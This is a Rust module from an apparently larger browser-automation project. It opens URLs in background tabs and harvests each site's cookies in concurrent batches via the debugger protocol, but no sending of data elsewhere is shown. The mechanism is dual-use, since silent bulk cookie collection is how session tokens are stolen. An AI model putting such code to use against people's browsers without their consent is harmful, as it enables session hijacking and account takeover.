/// Batched cookie capture across background tabs
use futures::future::join_all;

use crate::config::PipelineConfig;
use crate::domain::{hostname, is_capturable};
use crate::error::Result;
use crate::harvest::harvest_cookies;
use crate::hidden_tab::with_background_tab;
use crate::host::Browser;
use crate::tab_data::CookieRecord;

/// Open `url` in a background tab, harvest cookies for its hostname, close the tab
pub async fn capture_one<H: Browser + ?Sized>(
    host: &H,
    url: &str,
    config: &PipelineConfig,
) -> Result<Vec<CookieRecord>> {
    if !is_capturable(url) {
        log::debug!("Skipping cookie capture for {}", url);
        return Ok(Vec::new());
    }

    let domain = hostname(url)?;
    let version = config.debugger_protocol_version.as_str();

    with_background_tab(host, url, config.load_timeout_ms, |tab_id| {
        harvest_cookies(host, tab_id, &domain, version)
    })
    .await
}

/// Harvest cookies for every URL, `batch_size` tabs at a time.
///
/// Batches run one after another; URLs inside a batch run concurrently. A URL
/// that fails is logged and contributes nothing. The result is in input URL
/// order and still contains duplicates.
pub async fn capture_all<H: Browser + ?Sized>(
    host: &H,
    urls: &[String],
    config: &PipelineConfig,
) -> Vec<CookieRecord> {
    let mut harvested = Vec::new();

    for (index, batch) in urls.chunks(config.batch_size.max(1)).enumerate() {
        log::debug!("Capturing batch {} ({} urls)", index + 1, batch.len());

        let results = join_all(batch.iter().map(|url| capture_one(host, url, config))).await;

        for (url, result) in batch.iter().zip(results) {
            match result {
                Ok(cookies) => harvested.extend(cookies),
                Err(e) => log::error!("Error processing tab {}: {}", url, e),
            }
        }
    }

    harvested
}
